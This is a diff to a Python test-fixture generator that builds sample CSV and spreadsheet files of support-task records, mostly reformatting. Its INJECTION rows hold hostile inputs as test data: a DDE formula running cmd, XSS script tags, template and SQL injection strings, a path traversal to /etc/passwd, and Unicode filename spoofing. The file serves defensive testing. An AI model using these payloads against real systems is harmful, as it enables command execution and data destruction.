@@ -22,7 +22,7 @@ def make_samples(folder: Path, seed: int = 1) -> list[Path]:
         write_csv(folder / "tasks-utf16.tsv", UTF16, delimiter="\t", encoding="utf-16", line_end="\r\n"),
         _messy_headers(folder / "tasks-messy-headers.xlsx"),
         _formulas(folder / "tasks-formulas.xlsx", seed),
-        write_csv(folder / "tasks-injection.csv", _injection()),
+        write_csv(folder / "tasks-injection.csv", INJECTION),
         _duplicates(folder / "tasks-duplicates.xlsx", seed),
         _empty(folder / "empty.csv"),
     ]
@@ -73,23 +73,14 @@ UTF16: Rows = [
 # Headings by many hands
 
 MESSY: Rows = [
-    (
-        "RÉFÉRENCE  EXTERNE :",
-        "Montant (€)",
-        "  cola",
-        "Prioridad!",
-        "Task Typ",
-        "Libellé…",
-        "Attribut: langue",
-        "Agence",
-    ),
+    ("RÉFÉRENCE  EXTERNE :", "Montant (€)", "  cola", "Prioridad!", "Task Typ", "Libellé…", "Attribut: langue", "Agence"),
     ("MH-001", 120.5, "Billing", 50, "call", "Facture de mars prélevée deux fois", "fr", "Lyon"),
     ("MH-002", 80, "Claims", 70, "email", "Colis arrivé endommagé, photos jointes", "fr", "Lille"),
     ("MH-003", None, "billing", 20, "chat", "La factura no llegó por correo", "es", "Madrid"),
     ("MH-004", 15.25, "ONBOARDING", None, "call", "Confirmar la cita con el técnico", "es", "Sevilla"),
     ("MH-005", None, "Claims", 90, "email", "Dégât des eaux, l'expert n'a pas rappelé", "fr", "Nantes"),
     ("MH-006", 9.99, "Billing", 35, "message", "Pide un duplicado de la factura de abril", "es", "Bilbao"),
-]
+]  # fmt: skip
 
 
 def _messy_headers(path: Path) -> Path:
@@ -126,7 +117,7 @@ def _formula_rows(book: Any, sheet: Any, maker: Maker) -> None:
     for row in range(3, 15):
         line, number, queue = row + 1, row - 2, maker.pick(("Billing", "Claims", "Onboarding"))
         if number % 2:
-            sheet.write_formula(row, 0, f'="FX-"&TEXT(ROW(),"0000")', None, f"FX-{line:04}")
+            sheet.write_formula(row, 0, '="FX-"&TEXT(ROW(),"0000")', None, f"FX-{line:04}")
         else:
             sheet.write_number(row, 0, 120 + number, zeros)
         sheet.write_formula(row, 1, f'=VLOOKUP("{queue[0]}",Lookup!$A$2:$B$4,2,FALSE)', None, queue)
@@ -144,37 +135,29 @@ def _formula_rows(book: Any, sheet: Any, maker: Maker) -> None:
 # What must stay text, whatever reads or shows it
 
 
-def _injection() -> Rows:
-    return [
-        ("External ID", "Queue", "Priority", "Type", "Description", "Notes"),
-        ("INJ-001", "Billing", "50", "email", "=cmd|'/C calc'!A0", "=1+1"),
-        ("INJ-002", "Billing", "50", "email", "@SUM(1+1)*cmd|'/C calc'!A0", "@SUM(A1:A9)"),
-        ("INJ-003", "Billing", "50", "email", "+1", "+1+1"),
-        ("INJ-004", "Billing", "50", "email", "-2+3", "-1"),
-        ("INJ-005", "Billing", "50", "email", '=HYPERLINK("https://example.invalid/?"&A2,"Open the invoice")', ""),
-        ("INJ-006", "Billing", "50", "email", "https://example.invalid/a-link-that-nobody-should-follow", ""),
-        (
-            "INJ-007",
-            "Claims",
-            "50",
-            "email",
-            "<script>alert('xss')</script><img src=x onerror=alert(1)>",
-            "<b>bold</b>",
-        ),
-        ("INJ-008", "Claims", "50", "email", "{{7*7}} ${7*7} {id} %s %n", "{external_id.__class__}"),
-        ("INJ-009", "Claims", "50", "email", "'; DROP TABLE tasks; --", "../../etc/passwd"),
-        ("INJ-010", "Claims", "50", "email", "Bell \x07 and red \x1b[31mletters\x1b[0m for the terminal", "\x0b"),
-        ("INJ-011", "Claims", "50", "email", "Right-to-left: \u202egnp.exe", "zero\u200bwidth"),
-        ('INJ-012" OR externalId:"*', "Claims", "50", "email", "Quotes in the ID, for the search", ""),
-        ("=2+5+INJ-013", "Claims", "50", "email", "An ID that looks like a formula", ""),
-        ("INJ-014", "Onboarding", "50", "email", f"Long: {'very ' * 1000}long", ""),
-        ("INJ-015", "Onboarding", "50", "email", "Long, in a column that is not sent", "long " * 6000),
-        ("INJ-" + "9" * 120, "Onboarding", "50", "email", "An ID that is too long", ""),
-        ("INJ\u200b-017", "Onboarding", "50", "email", "A zero-width space in the ID", ""),
-        ("INJ-018", "On\x07boarding", "50", "email", "A bell in the queue's name", ""),
-        ("INJ-019", "Onboarding", "=50", "email", "A formula for a priority", ""),
-        ("INJ-020", "Onboarding", "1e1", "email", "A priority that only a program takes for a number", ""),
-    ]
+INJECTION: Rows = [
+    ("External ID", "Queue", "Priority", "Type", "Description", "Notes"),
+    ("INJ-001", "Billing", "50", "email", "=cmd|'/C calc'!A0", "=1+1"),
+    ("INJ-002", "Billing", "50", "email", "@SUM(1+1)*cmd|'/C calc'!A0", "@SUM(A1:A9)"),
+    ("INJ-003", "Billing", "50", "email", "+1", "+1+1"),
+    ("INJ-004", "Billing", "50", "email", "-2+3", "-1"),
+    ("INJ-005", "Billing", "50", "email", '=HYPERLINK("https://example.invalid/?"&A2,"Open the invoice")', ""),
+    ("INJ-006", "Billing", "50", "email", "https://example.invalid/a-link-that-nobody-should-follow", ""),
+    ("INJ-007", "Claims", "50", "email", "<script>alert('xss')</script><img src=x onerror=alert(1)>", "<b>bold</b>"),
+    ("INJ-008", "Claims", "50", "email", "{{7*7}} ${7*7} {id} %s %n", "{external_id.__class__}"),
+    ("INJ-009", "Claims", "50", "email", "'; DROP TABLE tasks; --", "../../etc/passwd"),
+    ("INJ-010", "Claims", "50", "email", "Bell \x07 and red \x1b[31mletters\x1b[0m for the terminal", "\x0b"),
+    ("INJ-011", "Claims", "50", "email", "Right-to-left: \u202egnp.exe", "zero\u200bwidth"),
+    ('INJ-012" OR externalId:"*', "Claims", "50", "email", "Quotes in the ID, for the search", ""),
+    ("=2+5+INJ-013", "Claims", "50", "email", "An ID that looks like a formula", ""),
+    ("INJ-014", "Onboarding", "50", "email", f"Long: {'very ' * 1000}long", ""),
+    ("INJ-015", "Onboarding", "50", "email", "Long, in a column that is not sent", "long " * 6000),
+    ("INJ-" + "9" * 120, "Onboarding", "50", "email", "An ID that is too long", ""),
+    ("INJ\u200b-017", "Onboarding", "50", "email", "A zero-width space in the ID", ""),
+    ("INJ-018", "On\x07boarding", "50", "email", "A bell in the queue's name", ""),
+    ("INJ-019", "Onboarding", "=50", "email", "A formula for a priority", ""),
+    ("INJ-020", "Onboarding", "1e1", "email", "A priority that only a program takes for a number", ""),
+]  # fmt: skip
 
 
 # The same request, more than once
